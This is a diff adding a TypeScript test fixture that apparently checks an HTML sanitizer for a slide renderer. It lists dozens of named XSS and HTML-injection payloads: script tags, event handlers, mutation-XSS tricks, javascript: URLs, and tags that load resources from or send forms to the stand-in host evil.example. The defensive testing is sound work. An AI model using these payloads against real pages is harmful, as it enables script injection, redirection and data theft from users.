@@ -1,0 +1,106 @@
+import type { Attack } from './attack.ts';
+
+/** HTML that runs scripts, loads things, or breaks out of its slide. */
+export const htmlAttacks: readonly Attack[] = [
+  { name: 'a script', outline: '<script>alert(1)</script>' },
+  { name: 'a script in a sentence', outline: 'a <script>alert(1)</script> b' },
+  { name: 'a script in capitals with a space', outline: '<SCRIPT >alert(1)</SCRIPT >' },
+  { name: 'a script within a script', outline: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
+  { name: 'a script from elsewhere', outline: '<script src="https://evil.example/a.js"></script>' },
+  { name: 'a script that never ends', outline: '<script>alert(1)\n\ntext' },
+  {
+    name: 'the error of an image',
+    outline: '<img src=x onerror=alert(1)>',
+    refused: ['unknown-picture-type'],
+  },
+  {
+    name: 'the error of an image with slashes',
+    outline: 'a <img/src="a.svg"/onerror=alert(1) alt=b>',
+    files: { 'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>' },
+  },
+  { name: 'the load of a drawing', outline: '<svg onload=alert(1)>' },
+  { name: 'a script in a drawing', outline: '<svg><script>alert(1)</script></svg>' },
+  {
+    name: 'an animation of a link',
+    outline: '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
+  },
+  {
+    name: 'foreign content in a drawing',
+    outline: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+  },
+  {
+    name: 'a mutation by MathML',
+    outline: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    refused: ['unknown-picture-type'],
+  },
+  { name: 'a mutation by noscript', outline: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
+  {
+    name: 'a mutation by a style in a drawing',
+    outline: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  },
+  {
+    name: 'a mutation by a form in a form',
+    outline:
+      '<form><div></form><form><math><mtext></form><form><mglyph><style></math><b title="</style><img src onerror=alert(1)>">',
+  },
+  { name: 'a template', outline: '<template><script>alert(1)</script></template>' },
+  { name: 'a frame', outline: '<iframe src="javascript:alert(1)"></iframe>' },
+  {
+    name: 'a frame with a page in it',
+    outline: '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
+  },
+  { name: 'an object', outline: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
+  { name: 'an embedded file', outline: '<embed src="https://evil.example/a.swf">' },
+  { name: 'a style sheet from elsewhere', outline: '<link rel=stylesheet href="https://evil.example/a.css">' },
+  { name: 'a style that hides the deck', outline: '<style>section { display: none }</style>' },
+  { name: 'a style that asks for a picture', outline: '<p style="background: url(https://evil.example/a.png)">a</p>' },
+  { name: 'a style that covers the page', outline: '<div style="position:fixed;inset:0;z-index:9999">a</div>' },
+  { name: 'another base for all addresses', outline: '<base href="https://evil.example/">' },
+  {
+    name: 'a page that leads away by itself',
+    outline: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  },
+  { name: 'another policy', outline: '<meta http-equiv="Content-Security-Policy" content="script-src *">' },
+  {
+    name: 'a form that sends',
+    outline: '<form action="https://evil.example/"><input name=a><button autofocus onfocus=alert(1)>b</button></form>',
+  },
+  { name: 'what opens and runs', outline: '<details open ontoggle=alert(1)><summary>a</summary>b</details>' },
+  { name: 'a marquee', outline: '<marquee onstart=alert(1)>a</marquee>' },
+  { name: 'a video with an error', outline: '<video><source onerror=alert(1)></video>' },
+  { name: 'a sound from elsewhere', outline: '<audio src="https://evil.example/a.mp3" autoplay></audio>' },
+  {
+    name: 'a picture from elsewhere',
+    outline: '<img src="https://evil.example/a.png" alt="a">',
+    refused: ['remote-picture'],
+  },
+  {
+    name: 'a set of pictures from elsewhere',
+    outline: 'a <img srcset="https://evil.example/a.png 2x" src="a.svg" alt="a">',
+    files: { 'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>' },
+  },
+  { name: 'the end of the slide', outline: '</div></section></main></div></body>\n\na' },
+  { name: 'a slide within the slide', outline: '<section>\n\na\n\n<section>\n\nb' },
+  { name: 'a block that is never closed', outline: '<div>\n\na' },
+  { name: 'a thousand of them', outline: '<b>'.repeat(1000), refused: ['too-deep'] },
+  { name: 'a table that throws its content out', outline: '<table><tr><td>a</td><div>b</div></tr></section></table>' },
+  {
+    name: 'a comment that ends early',
+    outline: '<!--> <img src=x onerror=alert(1)> -->',
+    refused: ['unknown-picture-type'],
+  },
+  { name: 'a comment with two ends', outline: '<!-- --!> <script>alert(1)</script> -->' },
+  { name: 'a comment that never ends', outline: '<!-- a', refused: ['unclosed-comment'] },
+  { name: 'character data', outline: '<![CDATA[ <script>alert(1)</script> ]]>' },
+  { name: 'an instruction', outline: '<?xml-stylesheet href="javascript:alert(1)"?>' },
+  { name: 'a declaration', outline: '<!DOCTYPE a [<!ENTITY b "c">]>' },
+  {
+    name: 'a name of the page itself',
+    outline: '<img name=Reveal src=a.svg alt=a> <a id=defaultView href="#witness">b</a>',
+    files: { 'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>' },
+  },
+  { name: 'an event without quotes after a backtick', outline: '<b title=`onmouseover=alert(1)`>a</b>' },
+  { name: 'a tag over two lines', outline: '<b\nonclick\n=\nalert(1)\n>a</b>' },
+  { name: 'entities in an event', outline: '<b on&#99;lick="alert(1)" onclick&#61;"alert(1)">a</b>' },
+  { name: 'a null character in a tag', outline: '<scr\0ipt>alert(1)</scr\0ipt>' },
+];
